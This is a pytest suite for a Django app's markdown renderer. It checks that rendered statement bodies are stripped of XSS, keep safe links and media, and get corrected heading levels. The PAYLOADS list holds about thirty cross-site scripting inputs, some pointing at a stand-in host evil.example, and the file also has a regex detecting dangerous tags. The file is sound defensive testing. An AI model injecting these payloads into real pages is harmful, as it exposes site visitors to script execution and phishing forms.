"""Statement bodies are sanitized: no script, handler, dangerous URL or foreign element survives."""

import importlib
import re

import pytest
from django.apps import apps

from statements.markdown import render_markdown
from statements.models import Statement

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="/media/x.png" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="p"><button>Go</button></form>',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<<script>script>alert(1)<</script>/script>",
]
DANGEROUS = re.compile(
    r"<\s*(script|iframe|form|input|button|style|svg|math|object|embed|meta|base|link)\b"
    r"|\bon[a-z]+\s*=|javascript:|data:|\bstyle\s*=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_xss_payload_survives_rendering(payload):
    html = render_markdown(f"Before.\n\n{payload}\n\nAfter.")
    assert not DANGEROUS.search(html), html
    assert "<p>Before.</p>" in html


def test_external_images_are_dropped_but_our_media_is_kept():
    html = render_markdown(
        "![tracker](https://evil.example/pixel.gif)\n\n![ours](/media/statements/map.png)"
        "\n\n![sneaky](//evil.example/media/x.png)"
    )
    assert "evil.example" not in html
    assert '<img alt="ours" src="/media/statements/map.png">' in html


def test_links_keep_their_text_and_get_noopener_nofollow():
    html = render_markdown("Read [the report](https://www.hrw.org/report).")
    assert 'href="https://www.hrw.org/report"' in html
    assert 'rel="noopener nofollow"' in html
    assert ">the report</a>" in html


def test_markdown_structure_is_kept_and_headings_sit_below_the_page_title():
    html = render_markdown(
        "# Title\n\n## Section\n\n- one\n- two\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert "<h1>" not in html
    assert "<h2>Title</h2>" in html and "<h3>Section</h3>" in html
    assert "<li>one</li>" in html and "<blockquote>" in html and "<td>1</td>" in html


def test_a_body_whose_sections_start_at_two_hashes_does_not_skip_a_heading_level():
    # "##" was an h3 straight under the page's h1: a skipped level for screen readers.
    html = render_markdown("Intro.\n\n## Background\n\n### Detail\n\n## Demands")
    assert "<h2>Background</h2>" in html and "<h3>Detail</h3>" in html
    assert "<h2>Demands</h2>" in html


@pytest.mark.django_db
def test_the_migration_gives_old_bodies_the_new_heading_levels(client, site_settings, statement):
    """A body rendered before "##" became an h2 (when it was an h3 under the h1) is re-rendered;
    its text and its last-updated time stay as they were."""
    migration = importlib.import_module(
        "statements.migrations.0006_local_names_file_names_headings"
    )
    Statement.objects.filter(pk=statement.pk).update(
        body="## Findings\n\nText.", body_html="<h3>Findings</h3>\n<p>Text.</p>"
    )
    before = Statement.objects.get(pk=statement.pk)

    migration.rerender_bodies(apps, None)

    after = Statement.objects.get(pk=statement.pk)
    assert after.body_html == render_markdown("## Findings\n\nText.")
    assert "<h2>Findings</h2>" in client.get(statement.get_absolute_url()).content.decode()
    assert (after.body, after.updated_at) == (before.body, before.updated_at)
